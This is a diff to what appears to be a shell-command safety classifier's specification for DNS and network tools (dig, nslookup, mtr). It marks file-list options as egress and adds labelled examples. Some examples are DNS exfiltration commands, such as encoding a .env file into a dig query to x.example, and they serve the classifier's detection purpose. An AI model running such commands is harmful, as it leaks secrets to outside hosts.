@@ -1152,14 +1152,14 @@ DIG = command(
         *flags("-4, -6, -m, -r, -u, -i"),
         *values("-b, -c, -p, -t, -y"),
         *values("-q, -x", takes=HOST),
-        option("-f", takes=FILE_LIST),
+        option("-f", takes=FILE_LIST, effects=(EGRESS,)),
         option("-k", takes=INSPECT),
         *(option("-h", harmless=True), option("-v", harmless=True)),
     ),
     examples=(
         example("dig +short api.internal.example", REMOTE_READ),
         example("dig @10.0.0.2 -t txt x.example", REMOTE_READ),
-        example("dig -f names", REMOTE_READ),
+        example("dig -f names", EGRESS, REMOTE_READ),
         example('dig "$(base64 .env).x.example"', EGRESS, SECRET_READ),
     ),
 )
@@ -1168,12 +1168,17 @@ NSLOOKUP = command(
     "nslookup",
     effects=(REMOTE_READ,),
     operands=operands(many=HOST),
+    analyser="names",
     options=(
         *flags("-debug, -d2, -sil, -nosearch, -search, -recurse, -norecurse, -vc, -novc, -ignoretc, -nodebug, -fail, -nofail"),
         *values("-type, -query, -querytype, -q, -t, -class, -cl, -port, -po, -timeout, -time, -retry, -ret, -domain, -srchlist, -ndots"),
     ),
     style=SINGLE,
-    examples=(example("nslookup -type=mx x.example", REMOTE_READ), example('nslookup "$(hostname).x.example"', EGRESS)),
+    examples=(
+        example("nslookup -type=mx x.example", REMOTE_READ),
+        example('nslookup "$(hostname).x.example"', EGRESS),
+        example("nslookup - 10.0.0.2", EGRESS, REMOTE_READ),
+    ),
 )
 
 HOST_COMMAND = command(
@@ -1247,11 +1252,11 @@ MTR = command(
             "-B --bitpattern, -i --interval, -G --gracetime, -Q --tos, -Z --timeout, -M --mark, -c --report-cycles, --displaymode, -o --order"
         ),
         *values("-y --ipinfo"),
-        option("-F", "--filename", takes=FILE_LIST),
+        option("-F", "--filename", takes=FILE_LIST, effects=(EGRESS,)),
         *(option("-h", harmless=True), option("-v", "--version", harmless=True)),
     ),
     environment=(variable("MTR_PACKET", takes=PROGRAM),),
-    examples=(example("mtr -rwc 5 x.example", REMOTE_READ), example("mtr -F hosts", REMOTE_READ)),
+    examples=(example("mtr -rwc 5 x.example", REMOTE_READ), example("mtr -F hosts", EGRESS, REMOTE_READ)),
 )
 
 WHOIS = command(
